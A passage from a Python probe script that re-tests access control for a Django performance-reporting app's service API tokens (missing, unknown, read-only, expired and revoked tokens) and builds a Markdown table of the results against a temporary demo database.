            f"{kode_kios.count(302)}× 302, lain {sorted(set(kode_kios) - {302})}; "
            f"tersimpan {simpan_kios}",
            kode_kios == [302] * n_kios and simpan_kios == n_kios)  # fmt: skip


# (i) service tokens -------------------------------------------------------------------


def butir_i(p: Probe) -> None:
    from django.contrib.auth import get_user_model
    from django.test import Client
    from django.utils import timezone

    from kinerja.token_api import layanan
    from kinerja.token_api.models import TokenLayanan

    admin = get_user_model().objects.get(username="admin.jakpus")
    hari_ini = timezone.localdate()
    t, rahasia = layanan.token_buat(
        aktor=admin, organisasi=p.d["kota"], nama="SIPD (probe)", akses="baca",
        unit=[p.d["kota"]], berlaku_sampai=hari_ini + dt.timedelta(days=30),
    )  # fmt: skip
    T = "Token API layanan"
    sebelum = "belum ada: API hanya menerima sesi peramban"

    def panggil(header: str | None, metode="get"):
        c = Client(enforce_csrf_checks=True, raise_request_exception=False)
        kw = {"HTTP_AUTHORIZATION": header} if header else {}
        if metode == "post":
            badan = {"indikator_id": p.d["kompub"].pk, "tahun": TAHUN, "jenis_periode": "tahun",
                     "nilai_teks": "WTP"}  # fmt: skip
            return c.post(
                "/api/realisasi", json.dumps(badan), content_type="application/json", **kw
            )
        return c.get("/api/organisasi", **kw)

    tampil = rahasia[:12] + "…"  # the secret itself is not printed
    for nama, header, metode, kode, pesan in [
        ("tanpa token dan tanpa sesi", None, "get", 401, "Belum masuk"),
        ("token tidak dikenal", "knj_bukan-token-yang-ada", "get", 401, "Token tidak dikenal"),
        ("token baca yang sah (kontrol)", rahasia, "get", 200, None),
        ("token baca menulis", rahasia, "post", 403, "hanya untuk membaca"),
    ]:  # fmt: skip
        r = panggil(f"Bearer {header}" if header else None, metode)
        ok = r.status_code == kode and (pesan is None or pesan in r.content.decode())
        jalur = "POST /api/realisasi" if metode == "post" else "GET /api/organisasi"
        kirim = f" Bearer {tampil if header == rahasia else header}" if header else ""
        p.catat(T, f"{nama}: {jalur}{kirim}", sebelum if kode != 200 else "—",
                ringkas(r, pesan) if pesan else f"{r.status_code}, {len(r.json())} unit", ok)  # fmt: skip
    rahasia_tampil = tampil
    TokenLayanan.objects.filter(pk=t.pk).update(berlaku_sampai=hari_ini - dt.timedelta(days=1))
    r = panggil(f"Bearer {rahasia}")
    p.catat(T, f"token kedaluwarsa kemarin: GET /api/organisasi Bearer {rahasia_tampil}", sebelum,
            ringkas(r, "kedaluwarsa"), r.status_code == 401 and "kedaluwarsa" in r.content.decode())  # fmt: skip
    TokenLayanan.objects.filter(pk=t.pk).update(berlaku_sampai=hari_ini)
    layanan.token_cabut(aktor=admin, token=t, alasan="probe ulang issue 14")
    r = panggil(f"Bearer {rahasia}")
    p.catat(T, f"token dicabut: GET /api/organisasi Bearer {rahasia_tampil}", sebelum,
            ringkas(r, "dicabut"), r.status_code == 401 and "dicabut" in r.content.decode())  # fmt: skip


BUTIR = {
    "a": butir_a,
    "b": butir_b,
    "c": butir_c,
    "d": butir_d,
    "e": butir_e,
    "f": butir_f,
    "g": butir_g,
    "h": butir_h,
    "i": butir_i,
}


# --- data and run -------------------------------------------------------------------------


def siapkan_data() -> dict:
    """The demo's data (without building its LKIP): the Jakarta Pusat example, the demo
    accounts and the work of every role (Cideng's semester realisasi, an open SKM round)."""
    from kinerja.cli.demo import buat_akun_demo
    from kinerja.contoh.kerja_demo import siapkan_kerja_demo
    from kinerja.contoh.muat import muat_contoh
    from kinerja.organisasi.models import Organisasi
    from kinerja.perencanaan.models import Indikator

    muat_contoh(KOTA)
    # the demo password; on PostgreSQL without debug the demo draws a random one
    _, sandi = buat_akun_demo()
    kerja = siapkan_kerja_demo(KOTA)
    cideng = Organisasi.objects.get(slug=CIDENG)
    return {
        "kota": Organisasi.objects.get(slug=KOTA),
        "cideng": cideng,
        "ind_cideng": Indikator.objects.get(
            organisasi=cideng, nama__startswith="Persentase pengaduan"
        ),
        "kompub": Indikator.objects.get(organisasi__slug=KOTA, kode="KOMPUB"),
        "tautan": kerja["putaran"],
        "putaran": kerja["putaran"].putaran,
        "sandi": sandi,
    }


def jalankan(data: dict, butir: list[str]) -> list[Baris]:
    semua: list[Baris] = []
    for b in butir:
        p = Probe(data, b)
        try:
            BUTIR[b](p)
        except Exception as e:  # a crash of the probe itself is a row, not a lost table
            p.catat(
                f"butir {b}", "(skrip probe)", "", f"pengecualian {type(e).__name__}: {e}", False
            )
        semua += p.baris
    return semua


def _postgres(url: str) -> tuple[str, str]:
    from urllib.parse import urlsplit, urlunsplit

    import psycopg

    bagian = urlsplit(url)
    admin = urlunsplit(bagian._replace(path="/postgres"))
    probe = urlunsplit(bagian._replace(path=f"/{NAMA_DB}"))
    with psycopg.connect(admin.replace("postgres://", "postgresql://", 1), autocommit=True) as c:
        c.execute(f'DROP DATABASE IF EXISTS "{NAMA_DB}" WITH (FORCE)')
        c.execute(f'CREATE DATABASE "{NAMA_DB}"')
    return probe, admin


def _hapus_postgres(admin: str) -> None:
    import psycopg
    from django.db import connections

    connections.close_all()
    with psycopg.connect(admin.replace("postgres://", "postgresql://", 1), autocommit=True) as c:
        c.execute(f'DROP DATABASE IF EXISTS "{NAMA_DB}" WITH (FORCE)')


def main(argv: list[str] | None = None) -> int:
    a = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    a.add_argument("--db", choices=["sqlite", "postgres"], default="sqlite")
    a.add_argument("--database-url", default="postgres://postgres@127.0.0.1:5432/postgres",
                   help="server PostgreSQL untuk --db postgres")  # fmt: skip
    a.add_argument("--keluar", type=Path, help="tulis tabel Markdown juga ke berkas ini")
    a.add_argument("--butir", default=",".join(BUTIR), help="mis. a,c (bawaan: semua)")
    args = a.parse_args(argv)
    butir = [b.strip() for b in args.butir.split(",") if b.strip()]
    salah = [b for b in butir if b not in BUTIR]
    if salah:
        a.error(f"butir tidak dikenal: {', '.join(salah)} (pilih dari {', '.join(BUTIR)})")

    data_dir = Path(tempfile.mkdtemp(prefix="kinerja-probe-ulang-"))
    for k in [k for k in os.environ if k.startswith("KINERJA_")] + ["DATABASE_URL"]:
        os.environ.pop(k, None)  # the defaults a deployment has, not the caller's shell
    os.environ.update({
        "DJANGO_SETTINGS_MODULE": "kinerja.settings",
        "KINERJA_DATA_DIR": str(data_dir),
        "KINERJA_SECRET_KEY": secrets.token_urlsafe(50),
        "KINERJA_KUNCI_SIDIK": secrets.token_urlsafe(50),
        "KINERJA_ALLOWED_HOSTS": "testserver,127.0.0.1,localhost",
        "KINERJA_CONN_MAX_AGE": "0",
    })  # fmt: skip
    admin_pg = None
    if args.db == "postgres":
        os.environ["DATABASE_URL"], admin_pg = _postgres(args.database_url)
    import django

    django.setup()
    from django.core.management import call_command

    try:
        t0 = time.perf_counter()
        call_command("migrate", interactive=False, verbosity=0)
        call_command("createcachetable", verbosity=0)
        data = siapkan_data()
        t1 = time.perf_counter()
        baris = jalankan(data, butir)
        t2 = time.perf_counter()
    finally:
        if admin_pg:
            _hapus_postgres(admin_pg)
        shutil.rmtree(data_dir, ignore_errors=True)
    from django.conf import settings
    from django.db import connection

    sandi = f"`{SANDI}`" if data["sandi"] == SANDI else "acak dari buat_akun_demo"
    kepala = (
        f"# Probe ulang issue 14 ({connection.vendor}, {dt.datetime.now(dt.UTC):%Y-%m-%d %H:%M} UTC)\n\n"
        f"Data demo dimuat dalam {t1 - t0:.0f} s, {len(baris)} masukan dicoba dalam {t2 - t1:.0f} s "
        f"(Django test Client, pengaturan `kinerja.settings`, DEBUG {settings.DEBUG}; masuk "
        f'lewat formulir /masuk/ dengan akun demo, kata sandi {sandi}). Kolom "sebelum" '
        f"diringkas dari teks issue 14.\n\n"
    )
    teks = kepala + tabel_markdown(baris) + "\n"
    print(teks)
    if args.keluar:
        args.keluar.write_text(teks, encoding="utf-8")
    return 0 if all(b.baik for b in baris) else 1


if __name__ == "__main__":
    sys.path.insert(0, str(AKAR / "src"))
    sys.exit(main())
